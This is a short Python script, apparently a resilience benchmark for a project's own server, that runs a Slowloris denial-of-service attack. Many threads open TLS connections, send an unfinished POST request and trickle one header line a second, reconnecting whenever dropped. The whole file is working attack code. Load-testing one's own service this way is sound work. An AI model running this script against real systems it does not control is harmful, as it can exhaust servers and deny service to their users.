#!/usr/bin/env python3
"""Slow-header attackers for bench/slowloris.sh: CONNECTIONS threads, each opening a TLS
connection, starting a request and adding one short header line a second, never ending it;
when the server answers or closes, it reconnects at once. Runs SECONDS, then prints what the
server did to them. They connect from SOURCE (default 127.0.0.2: another address than the
tablet's, as an attacker's would be).  slowloris.py HOST PORT CAFILE CONNECTIONS SECONDS [SOURCE]"""
import socket
import ssl
import sys
import threading
import time

from attackers import count, run, stop

host, port, cafile = sys.argv[1], int(sys.argv[2]), sys.argv[3]
connections, seconds = int(sys.argv[4]), float(sys.argv[5])
source = sys.argv[6] if len(sys.argv) > 6 else "127.0.0.2"
ctx = ssl.create_default_context(cafile=cafile)


def attack():
    while not stop.is_set():
        try:
            raw = socket.create_connection((host, port), timeout=30, source_address=(source, 0))
            s = ctx.wrap_socket(raw, server_hostname="localhost")
            count("connections")
            s.sendall(b"POST /api/v1/submissions HTTP/1.1\r\nHost: localhost\r\n")
            s.settimeout(1)
            while not stop.is_set():
                s.sendall(b"X-Slow: a\r\n")
                try:
                    answer = s.recv(64)
                except socket.timeout:
                    continue
                count("answered " + answer[9:12].decode() if answer else "closed by the server")
                break
            s.close()
        except (OSError, ssl.SSLError):
            count("refused or reset")
            time.sleep(0.2)


threads = [threading.Thread(target=attack, daemon=True) for _ in range(connections)]
print("attackers     " + ", ".join(f"{k}: {v}" for k, v in run(threads, seconds)))
